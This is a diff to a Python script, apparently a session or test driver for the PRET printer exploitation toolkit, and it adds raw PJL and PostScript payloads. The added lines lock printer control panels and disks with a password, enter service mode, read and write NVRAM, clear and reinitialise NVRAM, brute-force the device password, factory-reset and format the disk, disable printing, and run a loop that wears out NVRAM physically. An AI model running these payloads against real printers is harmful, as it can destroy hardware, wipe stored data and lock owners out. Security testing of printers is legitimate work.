@@ -89,6 +89,21 @@ def pjl_session(c):
     c.pjl(b'@PJL RDYMSG DISPLAY="' + b"0" * 10000 + b'"', False)       # flood
     c.pjl(b'@PJL RDYMSG DISPLAY="PRET was here"', False)               # display
     c.pjl(b'@PJL DMCMD ASCIIHEX="040006020501010301040104"', False)    # restart
+    c.pjl(b"@PJL DEFAULT PASSWORD=4242" + EOL + b"@PJL DEFAULT CPLOCK=ON" + EOL +
+          b"@PJL DEFAULT DISKLOCK=ON", False)                          # lock
+    c.pjl(b"@PJL DINQUIRE CPLOCK")                                     # lock: show_lock
+    c.pjl(b"@PJL SET SERVICEMODE=HPBOISEID" + EOL + b"@PJL DEFAULT HOLD=ON" + EOL +
+          b"@PJL SET HOLD=ON" + EOL + b"@PJL SET SERVICEMODE=EXIT", False)  # hold
+    c.pjl(b'@PJL OPMSG DISPLAY="OUT OF ORDER"', False)                 # offline
+    c.pjl(b"@PJL SET TESTPAGE=SELFTEST", False)                        # selftest
+    c.pjl(b"@PJL EXECUTE MAINTENANCEPRINT" + EOL + b"@PJL EXECUTE TESTPRINT", False)
+    c.pjl(b"@PJL RNVRAM ADDRESS=0")                                    # nvram read
+    c.pjl(b"@PJL SUPERUSER PASSWORD=0" + EOL + b"@PJL WNVRAM ADDRESS=0 DATA=0" + EOL +
+          b"@PJL SUPERUSEROFF", False)                                 # nvram write
+    c.pjl(b'@PJL DMCMD ASCIIHEX="040006020501010301040106"', False)    # reset
+    c.pjl(b"@PJL SET SERVICEMODE=HPBOISEID" + EOL + b"@PJL CLEARNVRAM" + EOL + b"@PJL NVRAMINIT" +
+          EOL + b"@PJL INITIALIZE" + EOL + b"@PJL SET SERVICEMODE=EXIT", False)
+    c.pjl(b"@PJL INITIALIZE" + EOL + b"@PJL RESET" + EOL + b"@PJL EXECUTE SHUTDOWN", False)
 
 
 def ps_session(c):
@@ -104,6 +119,16 @@ def ps_session(c):
     c.ps(b"(a.ps) (b.ps) renamefile")                                  # rename
     c.ps(PS_GLOBAL + b"<< /SystemParamsPassword (0) /StartJobPassword (0) >> setsystemparams")  # lock
     c.ps(b"{<< /Password (0) /SystemParamsPassword (0) >> setsystemparams}" + PS_SUPER)  # unlock
+    c.ps(b"/min 0 def /max 1048576 def\nstatusdict begin {min 1 max\n  {dup checkpassword "
+         b"{== flush stop}{pop} ifelse} for\n} stopped pop")          # unlock: crack
+    c.ps(b"<< /FactoryDefaults true >> setsystemparams")               # reset
+    c.ps(b"statusdict begin (%disk0%) () initializedisk end")          # format
+    c.ps(PS_GLOBAL + b"userdict /showpage known dup ==\n{userdict /showpage undef}\n"
+         b"{/showpage {} def} ifelse")                                 # disable
+    c.ps(PS_GLOBAL + b"/value {currentsystemparams /WaitTimeout get} def\n/count 0 def "
+         b"/new {count 2 mod 30 add} def\n{ << /WaitTimeout new >> setsystemparams\n"
+         b"  /count count 1 add def % increment\n  value count 100 eq {exit} if\n} loop")  # destroy
+    c.ps(PS_GLOBAL + b"systemdict /quit get exec")                     # restart
 
 
 def main():
